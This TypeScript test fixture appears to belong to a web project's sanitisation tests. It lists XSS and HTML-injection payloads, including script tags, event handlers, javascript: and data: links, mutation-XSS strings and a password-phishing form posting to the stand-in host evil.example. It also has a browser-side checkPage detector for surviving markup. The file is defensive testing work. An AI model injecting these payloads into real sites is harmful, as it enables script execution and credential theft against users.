/**
 * The injection corpus: markup an attacker puts in any field that can reach a page — script, meta refresh,
 * iframe, form, `javascript:` and `data:` links, SVG onload, event attributes, CSS expressions, and the
 * tricks around them (mixed case, entities, attribute breakouts, mutation XSS). Each carries the marker
 * `x9pl` so a page can be searched for what survived. `checkPage` is what "no live markup" means, run in
 * the browser on a loaded page.
 */

/** The marker every payload carries (also a search term: letters and digits only). */
export const MARKER = 'x9pl';

export const HTML_PAYLOADS: readonly string[] = [
  `<script>window.${MARKER}=1</script>`,
  `<meta http-equiv="refresh" content="1;url=https://evil.example/${MARKER}">`,
  `<iframe src="https://evil.example/${MARKER}"></iframe>`,
  `<form action="https://evil.example/${MARKER}"><input name="password"><button>登录</button></form>`,
  `<a href="javascript:alert('${MARKER}')">点击查看</a>`,
  `<a href="JaVaScRiPt:alert('${MARKER}')">大小写</a>`,
  `<a href="&#106;avascript:alert('${MARKER}')">实体</a>`,
  `<a href="data:text/html,<script>alert('${MARKER}')</script>">数据链接</a>`,
  `<svg onload="alert('${MARKER}')"><circle r="1"/></svg>`,
  `<img src=x onerror="alert('${MARKER}')">`,
  `<p style="width:expression(alert('${MARKER}'))">样式表达式</p>`,
  `<div onclick="alert('${MARKER}')" onmouseover="alert(1)">事件属性</div>`,
  `<details open ontoggle="alert('${MARKER}')"><summary>展开</summary></details>`,
  `<object data="https://evil.example/${MARKER}.swf"></object><embed src="https://evil.example/${MARKER}.swf">`,
  `<base href="https://evil.example/${MARKER}/"><link rel="stylesheet" href="https://evil.example/${MARKER}.css">`,
  `"><script>alert('${MARKER}')</script><"`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('${MARKER}')">`,
];

/** Markdown's own ways to make a link or image an editor (or a payload) might use. */
export const MARKDOWN_PAYLOADS: readonly string[] = [
  `[点我](javascript:alert('${MARKER}'))`,
  `[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![外部图片](https://evil.example/${MARKER}.png)`,
  `<https://evil.example/${MARKER}>`,
];

/** Every payload, one per line (for text fields). */
export const ALL_PAYLOADS: readonly string[] = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS];

/**
 * Run in the page (playwright `page.evaluate(checkPage, { careScript, marker: MARKER })`; self-contained):
 * every piece of live markup a payload could have produced. Empty when the page is safe. `careScript` is the
 * one inline script pages may carry.
 */
export async function checkPage({ careScript, marker }: { careScript: string; marker: string }): Promise<string[]> {
  const found: string[] = [];
  // The inline scripts the page's own CSP allows by hash (Astro's islands, the care script).
  const allowed = new Set<string>();
  for (const meta of document.querySelectorAll('meta[http-equiv="content-security-policy" i]')) for (const m of meta.getAttribute('content')!.matchAll(/'sha256-([^']+)'/g)) allowed.add(m[1]!);
  const sha256 = async (text: string) => btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))));
  for (const el of document.querySelectorAll('*')) {
    for (const attr of [...el.attributes]) {
      if (/^on/i.test(attr.name)) found.push(`${el.tagName} ${attr.name}`);
      if (/^(href|src|action|formaction|data|xlink:href|poster|srcdoc)$/i.test(attr.name) && /^\s*(javascript|vbscript|data:text)/i.test(attr.value)) found.push(`${el.tagName} ${attr.name}=${attr.value.slice(0, 40)}`);
      if (attr.name === 'style' && /expression\s*\(|url\s*\(/i.test(attr.value)) found.push(`${el.tagName} style`);
    }
  }
  for (const el of document.querySelectorAll('iframe, frame, object, embed, base, math, link[href*="evil.example"]')) found.push(el.tagName);
  for (const el of document.querySelectorAll('meta[http-equiv]')) if (el.getAttribute('http-equiv')!.toLowerCase() !== 'content-security-policy') found.push(`meta ${el.getAttribute('http-equiv')}`);
  for (const el of document.querySelectorAll('script')) {
    const text = el.textContent ?? '';
    const own = (el as HTMLScriptElement).src ? (el as HTMLScriptElement).src.startsWith(location.origin) : text === careScript || allowed.has(await sha256(text));
    if (!own || text.includes(marker)) found.push(`script ${text.slice(0, 40)}`);
  }
  for (const el of document.querySelectorAll('form')) if (!el.getAttribute('action')?.startsWith('/')) found.push(`form ${el.getAttribute('action')}`);
  for (const el of document.querySelectorAll('img')) if (!(el as HTMLImageElement).src.startsWith(location.origin) && !(el as HTMLImageElement).src.startsWith('data:image/')) found.push(`img ${(el as HTMLImageElement).src.slice(0, 40)}`);
  for (const el of document.querySelectorAll('a[href]')) if (/evil\.example/.test(el.getAttribute('href')!) && !/^https?:/.test(el.getAttribute('href')!)) found.push(`a ${el.getAttribute('href')}`);
  if ((window as unknown as Record<string, unknown>)[marker]) found.push('script ran');
  return found;
}
